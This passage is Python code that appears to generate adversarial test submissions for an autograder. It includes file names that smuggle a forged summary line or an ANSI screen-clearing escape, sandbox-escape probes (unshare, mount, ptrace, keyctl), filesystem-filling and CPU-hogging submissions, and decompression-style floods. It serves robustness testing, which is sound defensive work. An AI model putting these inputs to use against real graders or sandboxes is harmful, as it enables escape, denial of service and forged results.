    "attack_npz_flood": ("replaces the worker's encoder: every reply a 64 MB npz listing ~1.4 million entries",
                         _append(NPZ_FLOOD)),
    "attack_deep_header": ("replaces the worker's encoder: every reply header 300,000 brackets deep",
                           _append(DEEP_HEADER)),
    "attack_newline\n  victim                      100": ("a folder name with a newline and a forged summary line",
                                                           lambda kit: None),
    "attack_ansi\x1b[2J\x1b[H": ("a folder name with an ANSI escape that clears the screen", lambda kit: None),
    "attack_jos\u00e9": ("two submissions, 'jos\u00e9' and 'jose\u0301': one name in two Unicode spellings",
                         _second_spelling),
    "attack_escapes": ("tries unshare -Urm with a private tmpfs, unshare(), mount, ptrace, keyctl and setsid; "
                       "looks for host paths in /proc/*/cmdline", _zeros_and(ESCAPES)),
    "attack_fills_filesystems": ("writes up to 360 MB into /, /dev, /dev/shm, /opt/mlp-site, /opt/mlp-grader, /tmp "
                                 "and /submission", _zeros_and(FILLS_FILESYSTEMS)),
}

#: Attacks too costly for the whole class (they burn their CPU budget): graded on their own, with a short rubric.
COSTLY: dict[str, tuple[str, Callable[[Path], None]]] = {
    "attack_cpu_hog": ("29 busy loops, each in a session of its own, and every answer delayed",
                       _zeros_and(CPU_HOG.replace("@DELAY@", str(HOG_DELAY)))),
}

#: Ordinary faults and the full solution: they deserve what their code is worth.
ORDINARY: dict[str, tuple[str, Callable[[Path], None]]] = {
    "full_marks": ("the solution", fill),
    **{name: (name.replace("_", " "), _fault(replacements)) for name, replacements in FAULTS.items()},
    "deleted_module": ("the solution without mlp_core/optim.py", _deleted_module),
}

SUBMISSIONS = {**ORDINARY, **ATTACKS, **COSTLY}


def write_class(kit: Path, folder: Path, names: list[str] | None = None) -> None:
    """One folder per submission of :data:`SUBMISSIONS` (or ``names``; by default all but :data:`COSTLY`)."""
    folder.mkdir(parents=True, exist_ok=True)
    for name in names or [n for n in SUBMISSIONS if n not in COSTLY]:
        target = Path(shutil.copytree(kit, folder / name))
        SUBMISSIONS[name][1](target)


if __name__ == "__main__":
    write_class(Path(sys.argv[1]), Path(sys.argv[2]), sys.argv[3:] or None)
